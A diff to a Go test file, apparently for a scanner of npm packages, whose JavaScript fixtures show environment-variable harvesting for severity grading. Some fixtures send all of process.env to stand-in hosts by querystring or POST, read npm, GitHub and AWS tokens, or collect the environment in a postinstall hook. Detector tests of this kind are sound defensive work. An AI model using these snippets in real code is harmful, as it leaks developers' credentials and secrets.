@@ -14,7 +14,10 @@ func TestEnvHarvest(t *testing.T) {
 		{"querystring_env", map[string]string{"index.js": `https.get("https://x.example.invalid/?" + querystring.stringify(process.env))`}, finding.SeverityCritical},
 		{"env_in_payload", map[string]string{"index.js": `const d = JSON.stringify({h: 1, e: process.env}); require("https").request({hostname: "t.example.invalid", method: "POST"}).end(d)`}, finding.SeverityCritical},
 		{"env_in_options", map[string]string{"index.js": `configure({ environment: process.env })`}, finding.SeverityMedium},
-		{"object_keys", map[string]string{"index.js": `for (const k of Object.keys(process.env)) {}`}, finding.SeverityMedium},
+		// a config loader looking for its prefix, with nothing to send it
+		{"object_keys", map[string]string{"index.js": `for (const k of Object.keys(process.env)) { if (k.startsWith("DEBUG_")) use(k) }`}, finding.SeverityLow},
+		{"object_keys_and_network", map[string]string{"index.js": `const ks = Object.keys(process.env); require("https").get("https://api.example.invalid/")`}, finding.SeverityMedium},
+		{"object_keys_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node setup.js"}`), "setup.js": `for (const k in process.env) collect(k, process.env[k])`}, finding.SeverityMedium},
 		{"tokens", map[string]string{"index.js": `const a = process.env.NPM_TOKEN, b = process.env.GITHUB_TOKEN, c = process.env.AWS_SECRET_ACCESS_KEY`}, finding.SeverityMedium},
 		{"tokens_by_list", map[string]string{"index.js": `const out = {}; for (const k of ["NPM_TOKEN", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY"]) out[k] = process.env[k]`}, finding.SeverityMedium},
 		// a list of names that are not read through process.env[k]
